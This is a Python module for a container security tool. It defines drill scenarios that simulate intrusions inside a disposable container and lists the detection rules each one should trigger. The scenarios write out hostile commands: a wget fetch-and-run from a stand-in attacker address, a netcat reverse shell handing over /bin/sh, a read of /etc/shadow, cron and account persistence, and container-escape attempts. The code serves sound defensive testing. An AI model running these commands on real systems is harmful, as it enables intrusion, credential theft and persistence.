"""The drill's scenarios: what each one does inside its own disposable container, and which rules of
the built-in pack (src/stockade/rules/builtin/stockade.yaml) should see it.

A scenario is data. ``setup`` runs in the container's entrypoint shell before the attack (pid 1 and
its children are the image's own work: the rules leave them alone); ``steps`` are the attack, each
one command line run by ``podman exec`` as an intruder with a foothold would. ``attacker`` gives the
container's loopback interface a second address, :data:`ATTACKER_IP` (a documentation address,
RFC 5737), which stands for the intruder's server: connections to it count as outbound to the rules,
and they never leave the container's own network namespace (it has no other interface).
"""

from __future__ import annotations

from collections.abc import Collection
from dataclasses import dataclass

from stockade.errors import UsageError

__all__ = ["ATTACKER_IP", "SCENARIOS", "Scenario", "select"]

#: the "attacker's" address: on the container's loopback interface only (TEST-NET-2)
ATTACKER_IP = "198.51.100.7"
#: the port of the attacker's web server (busybox httpd) and of its reverse-shell listener (nc -l)
HTTP_PORT = 8080
LISTEN_PORT = 4444


@dataclass(frozen=True, slots=True)
class Scenario:
    """One attack simulation (module docstring)."""

    name: str
    description: str
    #: MITRE ATT&CK technique ids
    techniques: tuple[str, ...]
    #: the attack: command lines run one after another by `podman exec`
    steps: tuple[tuple[str, ...], ...]
    #: the rules that should raise an alert for it: each entry the built-in pack's rule, then the
    #: Falco stable rules that see the same thing (with rule_matching: first, a Falco rule loaded
    #: before the pack can take the event): any one of an entry firing meets it
    rules: tuple[tuple[str, ...], ...]
    #: shell run by the entrypoint before the attack (servers, listeners)
    setup: str = ""
    #: the container's loopback also gets ATTACKER_IP (needs CAP_NET_ADMIN in the container)
    attacker: bool = False

    def missing(self, fired: Collection[str]) -> list[str]:
        """The expected rules (the pack's name of each entry) none of whose rules is in `fired`."""
        return [alts[0] for alts in self.rules if not any(r in fired for r in alts)]


SHELL = "Shell Spawned in Container"
#: drift: the pack's rule, or Falco's stable one
DRIFT = ("Binary Not in Image Executed in Container", "Drop and execute new binary in container")

SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "shell",
        "An interactive shell exec'd into the running container (kubectl/podman exec).",
        ("T1059.004", "T1609"),
        (("sh", "-i", "-c", "echo drill: shell"),),
        ((SHELL,),),
    ),
    Scenario(
        "credential-read",
        "The password hash database /etc/shadow read with cat (the image holds a fake hash).",
        ("T1003.008",),
        (("cat", "/etc/shadow"),),
        (("Password Database Read in Container", "Read sensitive file untrusted"),),
    ),
    Scenario(
        "tool-download",
        "A shell, then wget downloads a tool from the attacker's web server (busybox httpd inside the "
        "container, on the attacker address), which is made executable and run. Each step is its own "
        "exec: busybox's shell runs its applets without exec(), which no sensor sees as wget.",
        ("T1105", "T1059.004"),
        (
            ("sh", "-i", "-c", "echo drill: foothold"),
            ("wget", "-q", "-O", "/tmp/busybox", f"http://{ATTACKER_IP}:{HTTP_PORT}/tool"),
            ("chmod", "+x", "/tmp/busybox"),
            ("/tmp/busybox", "echo", "drill: tool ran"),
        ),
        ((SHELL,), ("Shell, Download, Connect in Container",), DRIFT),
        setup=f"httpd -p {ATTACKER_IP}:{HTTP_PORT} -h /srv/drill/www",
        attacker=True,
    ),
    Scenario(
        "reverse-shell",
        "nc connects to the attacker's listener (nc -l inside the container, on the attacker address) "
        "and hands it a shell (nc -e /bin/sh); the listener sends `id; exit`.",
        ("T1059.004", "T1095"),
        (("nc", "-w", "5", ATTACKER_IP, str(LISTEN_PORT), "-e", "/bin/sh"),),
        (("Reverse Shell Command in Container", "Netcat Remote Code Execution in Container"),),
        setup=f"(echo 'id; exit' | nc -l -p {LISTEN_PORT} > /tmp/listener.out) &",
        attacker=True,
    ),
    Scenario(
        "drift",
        "A binary that is not in the image (a copy of busybox in /tmp, the container's writable layer) "
        "is executed.",
        ("T1105", "T1204"),
        (("cp", "/bin/busybox", "/tmp/busybox"), ("/tmp/busybox", "echo", "drill: drift")),
        (DRIFT,),
    ),
    Scenario(
        "implant",
        "A program is written below a binary directory (/usr/local/bin/kworker): a trojaned or added tool.",
        ("T1036.005", "T1543"),
        (("cp", "/bin/busybox", "/usr/local/bin/kworker"),),
        (("Write Below Binary Directory in Container",),),
    ),
    Scenario(
        "cron",
        "A cron table is installed with crontab (persistence through scheduled tasks).",
        ("T1053.003",),
        (("crontab", "/srv/drill/cron.job"),),
        (("Cron Job Modified in Container",),),
    ),
    Scenario(
        "account",
        "A user account is created with useradd (the image's useradd appends to /etc/passwd and "
        "/etc/shadow).",
        ("T1136.001",),
        (("useradd", "drill"),),
        (("User Account Created in Container",),),
    ),
    Scenario(
        "escape-nsenter",
        "nsenter into pid 1's namespaces (the container's own init: harmless; it fails without "
        "CAP_SYS_ADMIN).",
        ("T1611",),
        (("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "true"),),
        (("Namespace Tool Run in Container",),),
    ),
    Scenario(
        "escape-mount",
        "mount a file system from inside the container (fails without CAP_SYS_ADMIN).",
        ("T1611",),
        (("mount", "-t", "tmpfs", "drill", "/mnt"),),
        (("Mount Attempt in Container",),),
    ),
    Scenario(
        "escape-proc-root",
        "Reach pid 1's root file system through /proc/1/root (with a shared host pid namespace this is "
        "the host's; here it is the container's own).",
        ("T1611",),
        (("cat", "/proc/1/root/etc/hostname"),),
        (("Host Root Access via Proc in Container",),),
    ),
    Scenario(
        "discovery",
        "Who am I, what system, what network: id, uname -a and netstat -an in a row.",
        ("T1033", "T1082", "T1016"),
        (("id",), ("uname", "-a"), ("netstat", "-an")),
        (("Discovery Burst in Container",),),
    ),
)

_BY_NAME = {s.name: s for s in SCENARIOS}


def select(names: list[str] | tuple[str, ...]) -> list[Scenario]:
    """The scenarios named, in the order given (all of them when none is); an unknown name is a
    usage error listing the known ones."""
    if not names:
        return list(SCENARIOS)
    unknown = [n for n in names if n not in _BY_NAME]
    if unknown:
        raise UsageError(
            f"no drill scenario {', '.join(repr(n) for n in unknown)} (known: {', '.join(_BY_NAME)})"
        )
    return [_BY_NAME[n] for n in dict.fromkeys(names)]
